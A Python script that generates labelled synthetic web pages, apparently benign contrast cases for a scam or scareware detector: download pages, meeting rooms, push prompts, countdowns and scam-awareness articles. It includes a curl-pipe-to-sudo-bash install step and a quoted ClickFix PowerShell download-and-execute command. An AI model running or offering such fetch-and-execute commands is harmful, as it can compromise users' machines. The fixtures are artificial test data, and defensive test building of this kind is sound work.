docs("it-winr-ipconfig", "https://it.cornell.edu/dns/flush-dns-cache-windows", "Flush DNS Cache (Windows) | IT@Cornell", "Flush DNS cache on Windows",
     ["If a site loads for others but not for you, flushing the DNS cache can help."],
     [("1. Press Windows key + R, type cmd, press Enter. 2. Type or paste:", "ipconfig /flushdns")],
     "University IT help: Win+R cmd then paste ipconfig /flushdns",
     extra="<p>You should see 'Successfully flushed the DNS Resolver Cache.' Still stuck? Call the IT Service Desk at 607-255-5500.</p>")
docs("it-mac-terminal", "https://its.uiowa.edu/support/article/mac-terminal-install-cert", "Install campus certificate (Mac) | ITS", "Install the campus Wi-Fi certificate on a Mac",
     ["Open Terminal (Applications &gt; Utilities), paste the command, press Return and enter your Mac password."],
     [("Command", "curl -fsSL https://its.uiowa.edu/files/eduroam-setup.sh | sudo bash")],
     "University IT: macOS Terminal paste curl | sudo bash to install certificate")

# ---------------------------------------------------------------- downloads
def dl(slug, url, title, h1, text, fname, note):
    A(slug, url, "software-download", note, page(L, title, "<h1>%s</h1>" % h1 + paras(*text)
      + '<a class="btn" id="dl" href="%s" download>Download</a>' % fname
      + '<p class="small">By downloading you agree to the license terms.</p>', h1.split(" ")[0],
      (("Download", "/download"), ("Support", "/support"), ("News", "/news")),
      script="document.getElementById('dl').addEventListener('click',function(){setTimeout(function(){document.getElementById('dl').textContent='Thanks! Your download will begin shortly.';},300);});"))


dl("vlc", "https://www.videolan.org/vlc/download-windows.html", "Official download of VLC media player for Windows", "VLC media player for Windows",
   ["Version 3.0.21 &middot; Windows 64bit &middot; 42 MB", "VLC is a free and open source cross-platform multimedia player."], "vlc-3.0.21-win64.exe",
   "VLC 'for Windows' download page, .exe")
dl("7zip", "https://www.7-zip.org/download.html", "Download 7-Zip", "7-Zip download",
   ["Download 7-Zip 24.09 for Windows (64-bit x64).", "7-Zip works in Windows 11/10/8/7."], "7z2409-x64.exe", "7-Zip download, exe")
dl("firefox", "https://www.mozilla.org/en-US/firefox/new/", "Download Firefox Browser - Fast, Private & Free", "Get the latest Firefox browser",
   ["Firefox is updated every four weeks. Your download will start automatically.", "Firefox for Windows 64-bit."], "Firefox Installer.exe",
   "Firefox download: 'update' and 'browser' words, .exe")
dl("chrome", "https://www.google.com/chrome/", "Google Chrome - The Fast & Secure Web Browser", "Google Chrome",
   ["Get more done with the new Google Chrome. Download Chrome for Windows 11/10 64-bit.", "Chrome updates automatically, so you always have the latest security features."],
   "ChromeSetup.exe", "Google's own Chrome download page on google.com")
dl("zoom-download-center", "https://zoom.us/download", "Download Center - Zoom", "Zoom Workplace desktop app",
   ["The desktop client will download automatically when you start or join your first Zoom meeting, and is also available for manual download here.", "Version 6.3.0 (for Windows 64-bit)"],
   "ZoomInstallerFull.exe", "Zoom's own download center")
dl("teams", "https://www.microsoft.com/en-us/microsoft-teams/download-app", "Download Microsoft Teams Desktop and Mobile Apps", "Download Microsoft Teams",
   ["Teams for work or school on Windows 11.", "Already have it? Teams updates itself automatically."], "MSTeamsSetup.exe", "Microsoft Teams download on microsoft.com")
dl("notepadpp", "https://notepad-plus-plus.org/downloads/v8.7/", "Notepad++ v8.7 - Current Version", "Notepad++ v8.7",
   ["Download 64-bit x64 installer.", "Release notes: bug fixes, security enhancement for updater."], "npp.8.7.Installer.x64.exe", "Notepad++ download")
dl("nvidia-driver", "https://www.nvidia.com/en-us/drivers/details/230123/", "GeForce Game Ready Driver | Windows 11 | NVIDIA", "GeForce Game Ready Driver",
   ["Version 566.14 WHQL &middot; Windows 10 64-bit, Windows 11 &middot; 680 MB", "Important: update recommended - security fixes for CVE-2026-0001."],
   "566.14-desktop-win10-win11-64bit-international-dch-whql.exe", "NVIDIA driver download: 'update', 'security', Windows")

# ---------------------------------------------------------------- camera / meeting
CAM_JS = """document.getElementById('cam').addEventListener('click', function(){
  navigator.mediaDevices.getUserMedia({video:true,audio:true}).then(function(s){
    document.getElementById('v').srcObject = s; document.getElementById('st').textContent = 'Camera and microphone are working.';
  }).catch(function(){ document.getElementById('st').textContent = 'Permission denied. Check your browser settings.'; });
});"""


def meet(slug, url, title, brand, text, note, cat="video-call"):
    A(slug, url, cat, note, page(L, title, "<h1>%s</h1>" % title + paras(*text)
      + '<video id="v" autoplay muted playsinline width="480" style="background:#000"></video><p id="st"></p><button class="btn" id="cam">Turn on camera and microphone</button> <button class="btn">Join now</button>',
      brand, (), script=CAM_JS))


meet("zoom-web-join", "https://app.zoom.us/wc/83012345678/join", "Join meeting", "Zoom",
     ["Your name: <input value='Guest'>", "Dial in: +1 646 555 0199, Meeting ID 830 1234 5678.", "Please allow Zoom to use your microphone and camera."],
     "Zoom web client join: camera/mic request on click, dial-in number")
meet("google-meet", "https://meet.google.com/abc-defg-hij", "Ready to join?", "Google Meet",
     ["No one else is here.", "Other joining options: join by phone (US) +1 318-555-0144 PIN: 123 456 789#"],
     "Google Meet green room with dial-in number")
meet("teams-prejoin", "https://teams.microsoft.com/l/meetup-join/19:meeting_x", "Choose your video and audio options", "Microsoft Teams",
     ["Weekly project sync", "Audio: Computer audio. Call in instead: +1 323-555-0100, Conference ID 812 345 678#"],
     "Teams pre-join: Microsoft brand on microsoft host, camera on click, call-in number")
meet("webcam-test", "https://webcamtests.com/", "Webcam Test - Check your camera online", "WebcamTests",
     ["Check that your webcam works before an important video call.", "Click the button and allow access when your browser asks."],
     "Webcam test site: camera check on click", cat="camera-mic-location")
meet("telehealth-visit", "https://www.teladoc.com/visit/waiting-room", "Your visit will begin soon", "Teladoc Health",
     ["Estimated wait: 4 minutes. Please test your camera and microphone.", "If you have a medical emergency, call 911."],
     "Telehealth waiting room: camera test, 911 note")

# ---------------------------------------------------------------- games
GAME_JS = """var c=document.getElementById('g'),x=c.getContext('2d'),ac;
document.getElementById('play').addEventListener('click',function(){
  c.requestFullscreen && c.requestFullscreen();
  if(c.requestPointerLock) c.requestPointerLock();
  ac = new (window.AudioContext||window.webkitAudioContext)();
  var o=ac.createOscillator(); o.frequency.value=440; o.connect(ac.destination); o.start(); o.stop(ac.currentTime+0.15);
});
window.addEventListener('keydown',function(e){ if(['ArrowUp','ArrowDown','ArrowLeft','ArrowRight',' '].indexOf(e.key)>=0) e.preventDefault(); });
x.fillStyle='#222';x.fillRect(0,0,640,360);"""


def game(slug, url, title, text, note):
    A(slug, url, "game", note, page(L, title, "<h1>%s</h1>" % title + paras(*text)
      + '<canvas id="g" width="640" height="360"></canvas><br><button class="btn" id="play">Play full screen</button>',
      title.split(" ")[0], (("Games", "/games"), ("Leaderboard", "/top")), script=GAME_JS))


game("krunker-like-fps", "https://krunker.io/", "Krunker - browser FPS", ["Click to play. Press Esc to release the mouse.", "WASD to move, mouse to aim. Sound on."],
     "Browser FPS: fullscreen + pointer lock + sound after click, arrow keys blocked")
game("2048", "https://play2048.co/", "2048 game", ["Join the tiles, get to 2048! Use your arrow keys to move the tiles."], "2048: arrow keys prevented, sound")
game("chess-puzzles", "https://lichess.org/training", "Chess puzzles - lichess", ["Find the best move for white. Sound effects on each move."], "Chess puzzle page with sound and full screen")
game("retro-platformer", "https://www.crazygames.com/game/retro-platformer", "Retro Platformer - CrazyGames", ["Run, jump and collect coins. Full screen recommended.", "Warning: contains flashing lights."],
     "HTML5 game portal: 'Warning: flashing lights', fullscreen, sound")
game("typing-race", "https://www.typeracer.com/", "TypeRacer - test your typing speed", ["Race against others. Keys captured while racing; a countdown starts the race: 3... 2... 1..."],
     "Typing game with countdown and key capture")

# ---------------------------------------------------------------- push opt-ins
PUSH_ONLOAD = "window.addEventListener('load',function(){ if('Notification' in window && Notification.permission==='default'){ setTimeout(function(){ Notification.requestPermission(); }, 1500); } });"
PUSH_SOFT = """document.getElementById('allow').onclick=function(){ Notification.requestPermission().then(function(p){ document.getElementById('soft').style.display='none'; }); };
document.getElementById('later').onclick=function(){ document.getElementById('soft').style.display='none'; };"""


def push(slug, url, title, brand, article, soft, note, onload=False):
    box = ('<div id="soft" style="position:fixed;top:10px;left:50%%;transform:translateX(-50%%);background:#fff;border:1px solid #ccc;box-shadow:0 2px 8px #0003;padding:14px;width:360px">%s<br><button class="btn" id="allow">Allow</button> <button id="later">Not now</button></div>' % soft)
    A(slug, url, "push-optin", note, page(L, title, article + box, brand, (("News", "/news"), ("Sports", "/sports")),
      script=PUSH_SOFT + ("\n" + PUSH_ONLOAD if onload else "")))


push("cnn-breaking", "https://edition.cnn.com/2026/12/07/weather/winter-storm", "Winter storm warning for 40 million people | CNN", "CNN",
     "<h1>Winter storm warning for 40 million people</h1>" + paras("Blizzard warnings stretch from Minnesota to Michigan. Travel could become impossible."),
     "Get breaking news alerts from CNN. You can turn them off anytime.", "News push soft-ask on a storm-warning article", onload=True)
push("weather-com", "https://weather.com/weather/today/l/Chicago", "Chicago Weather Forecast | weather.com", "The Weather Channel",
     "<h1>Chicago, IL</h1><p>28&deg;F, Snow. Winter Storm Warning until 6 PM.</p>", "Allow notifications for severe weather alerts in your area?", "Weather push opt-in with severe warning words")
push("blog-onesignal", "https://www.budgetbytes.com/one-pot-chili/", "One Pot Chili - Budget Bytes", "Budget Bytes",
     "<h1>One Pot Chili</h1><p>Cheap, filling, freezer friendly.</p>", "We'd like to show you notifications for the latest recipes.", "Recipe blog OneSignal-style prompt on load", onload=True)
push("sports-scores", "https://www.bbc.com/sport/football/scores-fixtures", "Football scores - BBC Sport", "BBC Sport",
     "<h1>Scores &amp; Fixtures</h1><p>Live: Arsenal 2-1 Chelsea (78')</p>", "Get goal alerts for your team?", "Sports site goal-alert opt-in")
push("github-notifs", "https://github.com/notifications", "Notifications - GitHub", "GitHub",
     "<h1>Notifications</h1><p>Security alert: Dependabot found 2 vulnerable dependencies in your repository.</p>", "Enable desktop notifications for review requests?",
     "GitHub notifications with 'Security alert' Dependabot text and a push opt-in")

# ---------------------------------------------------------------- countdowns
CD_JS = """var end=Date.now()+%d*1000;setInterval(function(){var s=Math.max(0,Math.floor((end-Date.now())/1000));document.getElementById('cd').textContent=Math.floor(s/3600)+'h '+Math.floor(s%%3600/60)+'m '+(s%%60)+'s';},1000);"""


def cd(slug, url, title, brand, text, secs, note):
    A(slug, url, "countdown-shop", note, page(L, title, "<h1>%s</h1>" % title + paras(*text) + '<p style="font-size:28px;color:#c00">Ends in <span id="cd"></span></p><button class="btn">Add to cart</button>',
      brand, (("Deals", "/deals"), ("Cart", "/cart")), script=CD_JS % secs))


cd("bestbuy-deal", "https://www.bestbuy.com/site/misc/deal-of-the-day", "Deal of the Day", "Best Buy", ["Save $300 on a 65\" OLED TV. Today only. Limited quantities."], 20000, "Deal of the day countdown")
cd("ticket-hold", "https://www.ticketmaster.com/checkout/timer", "Complete your purchase", "Ticketmaster", ["Your tickets are held. Don't close or refresh this page or you may lose them.", "Time remaining to complete checkout:"], 480, "Ticket checkout hold timer: 'don't close or refresh', countdown")
cd("steam-sale", "https://store.steampowered.com/sale/winter", "Steam Winter Sale", "Steam", ["Thousands of games discounted up to 90%."], 300000, "Steam sale countdown")
cd("norton-cyber-monday", "https://us.norton.com/cyber-monday", "Cyber Monday: 66% off Norton 360", "Norton", ["Protect your devices from viruses and hackers. Offer expires soon!"], 40000, "Security vendor's own sale countdown with virus words")
cd("airline-fare", "https://www.united.com/en/us/fly/deals", "48-hour fare sale", "United Airlines", ["Fares from $49 one way. Book by midnight."], 150000, "Airline fare sale countdown")

# ---------------------------------------------------------------- disaster alerts with sound
SIREN_JS = """document.getElementById('play').addEventListener('click',function(){
  var ac=new (window.AudioContext||window.webkitAudioContext)(),o=ac.createOscillator(),g=ac.createGain();
  o.type='sawtooth';o.connect(g);g.connect(ac.destination);o.start();
  for(var i=0;i<10;i++){o.frequency.setValueAtTime(600,ac.currentTime+i);o.frequency.linearRampToValueAtTime(1200,ac.currentTime+i+0.5);}
  o.stop(ac.currentTime+10);
});"""
A("fema-eas-tone", "https://www.fema.gov/emergency-managers/practitioners/integrated-public-alert-warning-system/public/wireless-emergency-alerts", "ordinary-disaster",
  "FEMA Wireless Emergency Alerts page: sample alert tone played on click, EMERGENCY ALERT text",
  page(L, "Wireless Emergency Alerts | FEMA.gov", "<h1>Wireless Emergency Alerts</h1>" + paras(
      "Wireless Emergency Alerts (WEA) are short emergency messages from authorized government agencies, delivered to your phone.",
      "Sample: <em>EMERGENCY ALERT - Extreme alert: Tornado Warning in this area until 7:45 PM. Take shelter now.</em>",
      "Listen to the attention signal (loud):") + '<button class="btn" id="play">Play sample tone</button>',
      "FEMA", (("Emergency Managers", "/em"), ("Disasters", "/disaster")), script=SIREN_JS))
A("county-siren-test", "https://www.kingcounty.gov/emergency/outdoor-warning-sirens", "ordinary-disaster",
  "County page about monthly outdoor warning siren test with audio sample",
  page(L, "Outdoor warning sirens | King County", "<h1>Outdoor warning sirens</h1>" + paras(
      "Sirens are tested at noon on the first Wednesday of every month. If you hear a siren at another time, go inside and tune to local news.",
      "Hear what the siren sounds like:") + '<button class="btn" id="play">Play siren</button>', "King County", NAV, script=SIREN_JS))
A("tsunami-warning-center", "https://www.tsunami.gov/", "ordinary-disaster",
  "Tsunami warning center: WARNING banner, evacuate, audio of bulletin on click",
  page(L, "Tsunami.gov", '<div style="background:#c00;color:#fff;padding:10px"><strong>TSUNAMI WARNING</strong> in effect for coastal areas - move to high ground immediately.</div>' + paras(
      "Bulletin 3 issued 14:20 UTC. Estimated arrival times below.") + "<table><tr><td>Hilo</td><td>15:05</td></tr><tr><td>Honolulu</td><td>15:30</td></tr></table><button class='btn' id='play'>Listen to the bulletin tone</button>",
      "NOAA Tsunami Warning System", NAV, script=SIREN_JS))

# ---------------------------------------------------------------- awareness
def aware(slug, url, title, brand, body, note):
    A(slug, url, "awareness-news", note, page(L, title, "<h1>%s</h1>" % title + body, brand, NAV))


aware("ftc-tech-support", "https://consumer.ftc.gov/articles/how-spot-avoid-and-report-tech-support-scams", "How to spot, avoid, and report tech support scams", "FTC Consumer Advice",
      paras("Tech support scammers want you to believe you have a serious problem with your computer, like a virus.",
            "A pop-up might say: <q>WARNING! Your computer is infected. Call Microsoft Support at 1-800-XXX-XXXX immediately. Do not shut down your computer.</q>",
            "Legitimate tech companies won't contact you by phone, email or text to tell you there's a problem with your computer. Never call a number in a pop-up."),
      "FTC article quoting a fake pop-up with a phone placeholder")
aware("ms-scam-page", "https://support.microsoft.com/en-us/windows/protect-yourself-from-tech-support-scams", "Protect yourself from tech support scams", "Microsoft Support",
      paras("Scammers may display fake error messages on websites you visit, displaying support numbers and enticing you to call.",
            "They can put your browser in full screen and display pop-up messages that won't go away, essentially locking your browser.",
            "Example text: <q>Windows Defender Security Center: Access to this PC has been blocked for security reasons. Contact Windows Support: 1-8xx-xxx-xxxx</q>",
            "Microsoft's error and warning messages never include phone numbers."), "Microsoft's tech support scam page quoting a Defender lock message")
aware("malwarebytes-clickfix", "https://www.malwarebytes.com/blog/news/2025/03/fake-captcha-clickfix", "Fake CAPTCHA sites ask you to paste malware into Windows Run", "Malwarebytes Labs",
      paras("The page shows a familiar 'I'm not a robot' box. Clicking it silently copies a command to your clipboard.",
            "Then the 'verification steps' appear: <q>1. Press Windows Button + R. 2. Press CTRL + V. 3. Press Enter.</q>",
            "The pasted text looks like <code>powershell -w hidden -c \"iwr http://[redacted]/x | iex\" # I am not a robot - reCAPTCHA ID 2281</code>.",
            "No real CAPTCHA will ever ask you to run anything."), "Security blog quoting ClickFix steps and a defanged command")
aware("aarp-popup", "https://www.aarp.org/money/scams-fraud/info-2019/tech-support.html", "Tech Support Scams", "AARP Fraud Watch Network",
      paras("A pop-up appears with a loud alarm and a voice saying your computer is infected. Don't panic.",
            "Call the AARP Fraud Watch Network Helpline at 877-908-3360 if you or a loved one has been targeted.",
            "To close a locked browser: press Ctrl+Alt+Delete and end the browser task."), "AARP awareness page: alarm, voice, helpline number")
aware("bbc-scareware-news", "https://www.bbc.co.uk/news/technology-scareware-pensioner", "Pensioner lost £8,000 after 'virus' pop-up", "BBC News",
      paras("The 79-year-old was browsing a gardening site when her screen filled with a red warning and a siren sounded.",
            "'It said my bank details were being stolen and to ring Microsoft straight away,' she said.",
            "Police urged people never to call numbers shown in pop-ups and to let no-one take remote control of a computer."), "News story retelling a scareware pop-up")
aware("apple-fake-alerts", "https://support.apple.com/en-us/102568", "Recognize and avoid social engineering schemes", "Apple Support",
      paras("Fake virus alerts in Safari may say your iPhone has been hacked and ask you to call or install an app.",
            "Apple doesn't send virus warnings in Safari. Close the tab and don't call."), "Apple support page on fake virus alerts")
aware("google-safety-notification-spam", "https://support.google.com/chrome/answer/3220216", "Turn notifications on or off in Chrome", "Google Chrome Help",
      paras("Some sites ask you to click Allow to prove you're not a robot or to watch a video; they then send spam notifications.",
            "To stop them: Settings &gt; Privacy and security &gt; Site settings &gt; Notifications."), "Chrome help on 'click Allow' notification spam")
aware("krebs-fake-update", "https://krebsonsecurity.com/2025/fake-browser-update-clearfake/", "Fake Browser Updates Are Back", "Krebs on Security",
      paras("Hacked WordPress sites are showing visitors a full-page 'Your browser is out of date - Update Chrome' screen.",
            "The 'update' is an info-stealer. Chrome updates itself; no site will ever ask you to download an update."),
      "Security journalism on fake browser updates")

# ---------------------------------------------------------------- bills
def bill(slug, url, title, brand, body, note):
    A(slug, url, "bill-payment", note, page(L, title, "<h1>%s</h1>" % title + body, brand, (("Pay bill", "/pay"), ("Outage", "/outage"), ("Contact", "/contact"))))


bill("coned-past-due", "https://www.coned.com/en/accounts-billing/payment-plans-assistance/past-due", "Past due balance", "Con Edison",
     paras("Your balance of <strong>$214.37</strong> is past due. To avoid service disconnection, pay by December 21.",
           "Payment agreements are available. Call 1-800-752-6633.", "Con Edison will never demand payment by gift card or threaten immediate shutoff by phone."),
     "Utility past-due page: amount, deadline, disconnection, phone")
bill("ezpass-invoice", "https://www.e-zpassny.com/pay-toll-bill", "Pay a Toll Bill", "E-ZPass New York",
     paras("Enter your toll bill number and license plate. Late fees of $5 apply after the due date.",
           "Warning: we are aware of scam texts about unpaid tolls. We do not send payment links by text."), "Toll payment page with scam warning")
bill("library-fines", "https://www.lapl.org/my-account/fines", "Fines and fees", "Los Angeles Public Library",
     paras("Overdue items: 2. Amount due: $3.50. Your card will be blocked at $10.", "Pay online or at any branch."), "Library fines page: amount due, block threshold")
bill("irs-pay", "https://www.irs.gov/payments", "Make a payment", "IRS",
     paras("Pay your tax bill directly from your bank account with Direct Pay. Penalties and interest continue to accrue on unpaid balances.",
           "The IRS doesn't demand immediate payment using gift cards, prepaid debit cards or wire transfers."), "IRS payments: penalties, gift-card scam warning")
bill("netflix-payment-hold", "https://www.netflix.com/account/payment-hold", "Update your payment", "Netflix",
     paras("Your membership is on hold. We couldn't process your payment. Update your payment method to keep watching.",
           "Your account will be canceled if not updated by Dec 14."), "Streaming payment hold page on netflix.com")
